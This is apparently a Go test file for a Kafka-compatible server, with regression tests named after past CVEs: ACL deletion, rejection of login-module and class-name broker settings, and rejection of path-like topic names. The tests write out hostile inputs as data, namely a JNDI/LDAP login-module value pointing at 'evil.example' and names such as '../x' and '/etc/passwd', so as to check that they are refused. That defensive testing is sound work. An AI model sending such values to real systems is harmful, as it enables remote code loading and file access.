package metadata

import (
	"testing"

	"github.com/twmb/franz-go/pkg/kerr"
	"github.com/twmb/franz-go/pkg/kmsg"
)

// The tests of this file are named after weaknesses that other servers had.

// TestCVE2024_27309_RemovingOneACLKeepsItsSiblings: Kafka treated a resource that
// had lost one of its ACLs as if it had fewer than it had.
func TestCVE2024_27309_RemovingOneACLKeepsItsSiblings(t *testing.T) {
	c := newCluster(t, 1, false)
	add := func(principal string, permission kmsg.ACLPermissionType) {
		in := kmsg.NewCreateACLsRequestCreation()
		in.ResourceType, in.ResourcePatternType, in.ResourceName = kmsg.ACLResourceTypeTopic, kmsg.ACLResourcePatternTypeLiteral, "t"
		in.Principal, in.Host, in.Operation, in.PermissionType = principal, "*", kmsg.ACLOperationRead, permission
		req := kmsg.NewPtrCreateACLsRequest()
		req.Creations = append(req.Creations, in)
		if r := c.do(req).(*kmsg.CreateACLsResponse).Results[0]; r.ErrorCode != 0 {
			t.Fatal(said(r.ErrorCode, r.ErrorMessage))
		}
	}
	may := func(principal string) bool {
		return c.Image().Allowed(Access{Principal: principal, Host: "h", Operation: kmsg.ACLOperationRead, Type: kmsg.ACLResourceTypeTopic, Name: "t"})
	}
	add("User:a", kmsg.ACLPermissionTypeAllow)
	add("User:b", kmsg.ACLPermissionTypeAllow)
	add("User:*", kmsg.ACLPermissionTypeDeny)
	if may("User:a") || may("User:b") {
		t.Fatal("a denial does not deny")
	}
	remove := func(principal string) {
		f := kmsg.NewDeleteACLsRequestFilter()
		f.ResourceType, f.ResourcePatternType, f.ResourceName = kmsg.ACLResourceTypeTopic, kmsg.ACLResourcePatternTypeLiteral, kmsg.StringPtr("t")
		f.Principal, f.Operation, f.PermissionType = &principal, kmsg.ACLOperationAny, kmsg.ACLPermissionTypeAny
		req := kmsg.NewPtrDeleteACLsRequest()
		req.Filters = append(req.Filters, f)
		if r := c.do(req).(*kmsg.DeleteACLsResponse).Results[0]; r.ErrorCode != 0 || len(r.MatchingACLs) != 1 {
			t.Fatalf("%+v", r)
		}
	}
	remove("User:a")
	if may("User:a") || may("User:b") {
		t.Error("the denial went with another ACL")
	}
	remove("User:*")
	if may("User:a") || !may("User:b") {
		t.Error("who lost his ACL may, or the one who has it may not")
	}
}

// TestCVE2025_27819_BrokersTakeNoJAAS: Kafka's brokers loaded the login module
// that AlterConfigs named. No such configuration exists here.
func TestCVE2025_27819_BrokersTakeNoJAAS(t *testing.T) {
	c := newCluster(t, 1, false)
	for _, name := range []string{
		"listener.name.client.scram-sha-512.sasl.jaas.config", "sasl.jaas.config", "listener.name.client.plain.sasl.server.callback.handler.class",
		"ssl.engine.factory.class", "metric.reporters", "principal.builder.class", "authorizer.class.name", "sasl.oauthbearer.jwks.endpoint.url",
	} {
		req := kmsg.NewPtrIncrementalAlterConfigsRequest()
		r := kmsg.NewIncrementalAlterConfigsRequestResource()
		r.ResourceType, r.ResourceName = kmsg.ConfigResourceTypeBroker, "1"
		value := "com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://evil.example\";"
		r.Configs = append(r.Configs, kmsg.IncrementalAlterConfigsRequestResourceConfig{Name: name, Value: &value})
		req.Resources = append(req.Resources, r)
		if got := c.do(req).(*kmsg.IncrementalAlterConfigsResponse).Resources[0]; got.ErrorCode == 0 {
			t.Errorf("%s is accepted", name)
		}
	}
}

// TestCVE2022_28357_NamesAreNoPaths: NATS made files of names that its clients
// chose. Topics have Kafka's names and nothing else.
func TestCVE2022_28357_NamesAreNoPaths(t *testing.T) {
	c := newCluster(t, 1, false)
	names := []string{".", "..", "", "a/b", "../x", `a\b`, "a\x00b", "a b", "é", "a\nb", "/etc/passwd", string(make([]byte, 250))}
	for b := range 256 {
		if ch := byte(b); ch >= 'a' && ch <= 'z' || ch >= 'A' && ch <= 'Z' || ch >= '0' && ch <= '9' || ch == '.' || ch == '_' || ch == '-' {
			continue
		}
		names = append(names, "t"+string([]byte{byte(b)}))
	}
	for _, name := range names {
		if got := c.create(name, 1, 1); got.ErrorCode != kerr.InvalidTopicException.Code {
			t.Errorf("%q: %d", name, got.ErrorCode)
		}
	}
}
